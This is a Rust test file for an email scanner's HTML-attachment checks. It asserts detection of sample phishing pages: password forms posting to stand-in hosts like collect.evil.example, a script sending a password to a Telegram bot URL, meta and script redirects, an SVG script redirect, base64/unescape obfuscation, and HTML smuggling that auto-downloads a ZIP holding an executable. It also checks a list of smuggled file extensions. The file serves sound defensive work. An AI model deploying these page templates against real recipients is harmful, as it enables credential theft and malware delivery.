//! HTML attachments written here as strings.

use super::*;
use crate::config::Limits;
use crate::formats::html::unescape;
use crate::signatures::{Lists, Signatures};
use base64::Engine as _;
use std::sync::LazyLock;

/// The built-in lists, which a scan hands the opener (`Budget::lists`).
static LISTS: LazyLock<Lists> = LazyLock::new(|| Signatures::embedded().unwrap().lists);

fn att(name: &str, content_type: &str, html: &[u8]) -> Attachment {
    Attachment {
        location: format!("2/{name}"),
        name: (!name.is_empty()).then(|| name.to_string()),
        content_type: content_type.into(),
        data: html.to_vec(),
        ..Attachment::default()
    }
}

fn opened(name: &str, html: &str) -> Opened {
    opened_with(name, html, Some(&LISTS))
}

fn opened_with(name: &str, html: &str, lists: Option<&Lists>) -> Opened {
    let a = att(name, "application/octet-stream", html.as_bytes());
    let mut out = Opened::default();
    let mut budget = Budget {
        lists,
        ..out_budget()
    };
    assert!(open(&a, &mut budget, &mut out), "{name} is HTML");
    out
}

fn rules(o: &Opened) -> Vec<&str> {
    o.findings.iter().map(|f| f.rule).collect()
}

fn evidence<'a>(f: &'a Finding, key: &str) -> &'a str {
    f.evidence
        .iter()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
        .unwrap_or_else(|| panic!("no {key} in {f:?}"))
}

fn b64(data: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(data)
}

#[test]
fn a_password_form_posting_off_site() {
    let o = opened(
        "Secure_Message.htm",
        r#"<!DOCTYPE html><html><body><img src="logo.png"><p>Sign in to view your document</p>
        <form method="post" action="https://collect.evil.example/next.php">
        <input type="email" name="u" value="taro@example.co.jp">
        <input type="PASSWORD" name="p"><button>View</button></form></body></html>"#,
    );
    assert_eq!(rules(&o), ["ATTACH_HTML_PASSWORD_FORM"]);
    let f = &o.findings[0];
    assert_eq!(
        evidence(f, "target"),
        "https://collect.evil.example/next.php"
    );
    assert!(evidence(f, "sends_ja").contains("https://collect.evil.example/next.php"));
    assert_eq!(o.links[0].href, "https://collect.evil.example/next.php");
}

#[test]
fn a_password_form_sent_by_a_script() {
    let o = opened(
        "invoice.html",
        r#"<html><form id=f><input type=password id=p></form><script>
        document.getElementById('f').onsubmit = function(e){ e.preventDefault();
        fetch("https://api.telegram.org/bot123:abc/sendMessage", {method:'POST', body: p.value}); }
        </script></html>"#,
    );
    let f = &o.findings[0];
    assert_eq!(f.rule, "ATTACH_HTML_PASSWORD_FORM");
    assert_eq!(
        evidence(f, "target"),
        "https://api.telegram.org/bot123:abc/sendMessage"
    );
    assert!(evidence(f, "sends_en").contains("script"));
    // No form and no address at all: the field is written by a script.
    let o = opened(
        "a.html",
        r#"<html><div id=x></div><script>x.innerHTML = '<input type="password" name="pw">';</script></html>"#,
    );
    assert_eq!(evidence(&o.findings[0], "target"), "-");
}

#[test]
fn a_form_hidden_in_an_encoded_string() {
    let page = r#"<form action="https://phish.example/p"><input type="password"></form>"#;
    let escaped: String = page.bytes().map(|b| format!("%{b:02X}")).collect();
    let o = opened(
        "doc.html",
        &format!("<html><script>document.write(unescape('{escaped}'));</script></html>"),
    );
    assert_eq!(
        rules(&o),
        ["ATTACH_HTML_PASSWORD_FORM", "ATTACH_HTML_OBFUSCATED"]
    );
    assert_eq!(evidence(&o.findings[1], "how"), "unescape()");
    let o = opened(
        "doc2.html",
        &format!(
            "<script>document.write(atob(\"{}\"))</script>",
            b64(page.as_bytes())
        ),
    );
    assert_eq!(evidence(&o.findings[1], "how"), "atob()");
    assert_eq!(
        evidence(&o.findings[0], "target"),
        "https://phish.example/p"
    );
}

#[test]
fn redirects_by_meta_refresh_and_script() {
    let o = opened(
        "Voicemail.html",
        r#"<html><head><meta http-equiv="Refresh" content="0; URL='https://login.evil.example/o365?e=taro@example.co.jp'"></head></html>"#,
    );
    assert_eq!(rules(&o), ["ATTACH_HTML_REDIRECT"]);
    assert_eq!(
        evidence(&o.findings[0], "url"),
        "https://login.evil.example/o365?e=taro@example.co.jp"
    );
    assert_eq!(
        evidence(&o.findings[0], "how"),
        "<meta http-equiv=refresh> (0 s)"
    );
    let o = opened(
        "fax.htm",
        r#"<html><body onload="x()"><script>window.location.replace("https://evil.example/#"+m)</script>"#,
    );
    assert_eq!(
        evidence(&o.findings[0], "how"),
        "script: location.replace()"
    );
    let o = opened(
        "fax2.htm",
        r#"<script>document.location.href = 'https://evil.example/p';</script>"#,
    );
    assert_eq!(evidence(&o.findings[0], "url"), "https://evil.example/p");
    assert_eq!(o.links[0].href, "https://evil.example/p");
    // Comparisons and same-page anchors are not redirects.
    let o = opened(
        "ok.html",
        r##"<html><script>if (location.href == "https://a.example/") {} location.href = "#top";</script></html>"##,
    );
    assert!(o.findings.is_empty(), "{:?}", o.findings);
}

fn zip_with_exe() -> Vec<u8> {
    crate::message::containers::zip::tests::zip_of(&[(
        "Invoice.exe",
        &crate::formats::executable::tests::minimal_pe(false, 2),
    )])
}

#[test]
fn html_smuggling_hands_the_payload_on() {
    let payload = zip_with_exe();
    let mut padded = payload.clone();
    padded.resize(20_000, 0);
    let encoded = b64(&padded);
    let (a, b) = encoded.split_at(encoded.len() / 2);
    let page = format!(
        r#"<html><body><script>
        var d = "{a}" + "{b}";
        var bin = atob(d); var u = new Uint8Array(bin.length);
        for (var i = 0; i < bin.length; i++) u[i] = bin.charCodeAt(i);
        var blob = new Blob([u], {{type: 'application/zip'}});
        var link = document.createElement('a'); link.href = URL.createObjectURL(blob);
        link.download = "Invoice_2024.zip"; link.click();
        </script></body></html>"#
    );
    let o = opened("Invoice.html", &page);
    assert_eq!(rules(&o), ["ATTACH_HTML_SMUGGLING"]);
    let f = &o.findings[0];
    assert_eq!(evidence(f, "saved_as"), "Invoice_2024.zip");
    let signs = evidence(f, "signs");
    assert!(
        signs.contains("new Blob()") && signs.contains("ZIP archive"),
        "{signs}"
    );
    assert_eq!(o.children.len(), 1);
    assert_eq!(o.children[0].name.as_deref(), Some("Invoice_2024.zip"));
    assert!(o.children[0].data.starts_with(&payload));
}

/// A page that makes a file object and saves it under a program's name is smuggling whatever it
/// carries: the names come from `lists/smuggled_extensions.txt`, which the scan hands the opener
/// and the check of deep files reads from the signatures; a site list without `.exe` (or a parse
/// without lists) does not judge the name.
#[test]
fn a_smuggled_file_name_is_judged_by_the_list() {
    for ext in [
        "exe", "scr", "com", "pif", "cpl", "msi", "dll", "bat", "cmd", "vbs", "vbe", "js", "jse",
        "wsf", "hta", "ps1", "lnk", "url", "zip", "rar", "7z", "iso", "img", "vhd", "vhdx", "one",
        "jar", "docm", "xlsm", "pptm", "doc", "xls",
    ] {
        assert!(LISTS.smuggled_extensions.contains(ext), "{ext}");
    }
    let page = r#"<html><script>var b = new Blob(["hello"], {type:'text/plain'});
        var a = document.createElement('a'); a.href = URL.createObjectURL(b);
        a.download = 'Update.exe'; a.click();</script></html>"#;
    let o = opened("update.html", page);
    assert_eq!(rules(&o), ["ATTACH_HTML_SMUGGLING"]);
    assert_eq!(evidence(&o.findings[0], "saved_as"), "Update.exe");
    let mut site = LISTS.clone();
    site.smuggled_extensions.remove("exe");
    assert!(
        opened_with("update.html", page, Some(&site))
            .findings
            .is_empty()
    );
    assert!(opened_with("update.html", page, None).findings.is_empty());
    assert!(
        opened_with("update.html", &page.replace(".exe", ".hta"), Some(&site))
            .findings
            .iter()
            .any(|f| f.rule == "ATTACH_HTML_SMUGGLING")
    );

    // An HTML file nested past the container stage: the check reads the signatures' list.
    use crate::checks::attachments::testing::{run_check, run_check_with};
    let mut deep = att("update.html", "", page.as_bytes());
    deep.depth = 3;
    assert_eq!(
        run_check(check, vec![deep.clone()])[0].rule,
        "ATTACH_HTML_SMUGGLING"
    );
    let mut signatures = Signatures::embedded().unwrap();
    signatures.lists.smuggled_extensions.remove("exe");
    assert!(run_check_with(check, vec![deep], &signatures).is_empty());
}

#[test]
fn a_download_link_with_a_data_url() {
    let payload = zip_with_exe();
    let page = format!(
        r#"<html><a download="scan.zip" href="data:application/zip;base64,{}">Download</a></html>"#,
        b64(&payload)
    );
    let o = opened("scan.html", &page);
    assert_eq!(rules(&o), ["ATTACH_HTML_SMUGGLING", "ATTACH_HTML_DATA_URL"]);
    assert_eq!(evidence(&o.findings[1], "real"), "ZIP archive");
    assert_eq!(o.children[0].name.as_deref(), Some("scan.zip"));
}

#[test]
fn a_data_url_page_in_a_frame() {
    let inner =
        "<html><body>".to_string() + &"<p>Sign in to continue</p>".repeat(60) + "</body></html>";
    let page = format!(
        r#"<html><iframe src="data:text/html;base64,{}" style="border:0"></iframe></html>"#,
        b64(inner.as_bytes())
    );
    let o = opened("doc.html", &page);
    assert_eq!(rules(&o), ["ATTACH_HTML_DATA_URL"]);
    assert_eq!(evidence(&o.findings[0], "mime"), "text/html");
    assert_eq!(o.children.len(), 1);
}

#[test]
fn an_svg_picture_with_a_script() {
    let svg = r#"<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">
<svg xmlns="http://www.w3.org/2000/svg" onload="go()"><rect width="10" height="10"/>
<script><![CDATA[ function go(){ window.location = "https://evil.example/?"+atob("dGFybw=="); } ]]></script></svg>"#;
    let o = opened("Payment_Receipt.svg", svg);
    assert_eq!(
        rules(&o),
        ["ATTACH_HTML_REDIRECT", "ATTACH_HTML_SVG_SCRIPT"]
    );
    assert_eq!(evidence(&o.findings[1], "signs"), "<script>, onload=");
    // A plain SVG picture.
    let o = opened(
        "logo.svg",
        r#"<svg xmlns="http://www.w3.org/2000/svg"><circle r="4" fill="red"/></svg>"#,
    );
    assert!(o.findings.is_empty());
}

#[test]
fn an_ordinary_newsletter_attachment_has_no_finding() {
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0\0\0\x01\0\x08\x02\0\0\0".repeat(800);
    let page = format!(
        r#"<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>社内報 11月号</title>
<style>@font-face {{ font-family: x; src: url(data:application/font-woff2;base64,{font}); }}</style>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>
<script>window.dataLayer = window.dataLayer || []; function gtag(){{dataLayer.push(arguments);}}
if (location.href.indexOf('preview') > 0) {{ document.title = 'preview'; }}</script></head>
<body><img alt="header" src="data:image/png;base64,{img}">
<h1>今月のお知らせ</h1><p>新しい勤怠システムの説明会を開催します。</p>
<form action="https://www.example.co.jp/search"><input type="text" name="q"><input type="submit"></form>
<a href="https://www.example.co.jp/news/2024/11">続きを読む</a>
<a href="https://www.example.co.jp/report.pdf" download>月次報告 (PDF)</a></body></html>"#,
        font = b64(&[7u8; 30_000]),
        img = b64(&png)
    );
    let o = opened("newsletter.html", &page);
    assert!(o.findings.is_empty(), "{:?}", o.findings);
    assert!(o.children.is_empty());
}

#[test]
fn a_saved_report_with_a_chart_library_is_not_smuggling() {
    // Chart libraries offer "download as PNG" with Blob and the download property; their data
    // are numbers, not a file.
    let page = format!(
        r#"<html><script>function save(c){{ var b = new Blob([c], {{type:'image/png'}});
        var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'chart.png'; a.click(); }}
        var data = [{}];</script></html>"#,
        (0..5000)
            .map(|i| i.to_string())
            .collect::<Vec<_>>()
            .join(",")
    );
    let o = opened("report.html", &page);
    assert!(o.findings.is_empty(), "{:?}", o.findings);
}

#[test]
fn what_counts_as_html() {
    let yes = [
        att("a.htm", "", b"hello"),
        att("", "text/html", b"<p>hi</p>"),
        att(
            "ATT00001",
            "application/octet-stream",
            b"\xEF\xBB\xBF  <!-- x --><!DOCTYPE html><html>",
        ),
        att(
            "x.bin",
            "",
            b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        ),
        att(
            "x.txt",
            "",
            b"<script>location='https://a.example/'</script>",
        ),
    ];
    for a in &yes {
        assert!(is_html(a), "{:?}", a.name);
    }
    let no = [
        att("a.txt", "text/plain", b"Hello <b>there</b>"),
        att("document.xml", "", b"<?xml version=\"1.0\"?><w:document/>"),
        att("a.html", "", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0@\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x80\0\0\0"),
        att("note.txt", "", b"<header> is a tag"),
    ];
    for a in &no {
        assert!(!is_html(a), "{:?}", a.name);
    }
}

#[test]
fn deep_html_files_are_checked_without_the_container_stage() {
    use crate::checks::attachments::testing::run_check;
    let mut a = att(
        "x.html",
        "",
        br#"<meta http-equiv="refresh" content="0;url=https://evil.example/">"#,
    );
    a.depth = 3;
    let f = run_check(check, vec![a.clone()]);
    assert_eq!(f[0].rule, "ATTACH_HTML_REDIRECT");
    a.depth = 0;
    assert!(run_check(check, vec![a]).is_empty());
}

#[test]
fn unescape_handles_both_escapes() {
    assert_eq!(unescape("%3Cb%3E%u65E5%zz"), "<b>日%zz");
}

#[test]
fn mutated_pages_never_panic() {
    let seed_pages = [
        r#"<form action="https://a.example/"><input type=password></form><meta http-equiv=refresh content="0;url=//b.example">"#.to_string(),
        format!("<script>document.write(atob('{}'))</script><a download=x.zip href=\"data:application/zip;base64,{}\">", b64(b"<form><input type=password></form>"), b64(&zip_with_exe())),
    ];
    let mut seed: u64 = 0x1234_5678_9ABC_DEF1;
    let mut rand = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for page in &seed_pages {
        for _ in 0..300 {
            let mut d = page.clone().into_bytes();
            for _ in 0..1 + rand() % 8 {
                let at = (rand() as usize) % d.len();
                d[at] = rand() as u8;
            }
            let mut bytes_left = 1 << 20;
            let _ = analyse(
                &d,
                rand() % 2 == 0,
                &LISTS.smuggled_extensions,
                &mut bytes_left,
            );
        }
    }
}

#[test]
fn html_past_what_is_analysed_is_reported() {
    let mut page = b"<html><body>".to_vec();
    page.resize(MAX_HTML_BYTES + 1, b' ');
    page.extend_from_slice(b"<form><input type=password></form>");
    let a = att("big.html", "text/html", &page);
    let mut out = Opened::default();
    assert!(open(&a, &mut out_budget(), &mut out));
    let f = out
        .findings
        .iter()
        .find(|f| f.rule == "LIMIT_TEXT")
        .expect("size limit");
    assert_eq!(evidence(f, "part"), "big.html");
    assert!(!rules(&opened("a.html", "<html><body>hi</body></html>")).contains(&"LIMIT_TEXT"));
}

fn out_budget() -> Budget<'static> {
    Budget {
        lists: Some(&LISTS),
        ..Budget::new(&Limits::default())
    }
}
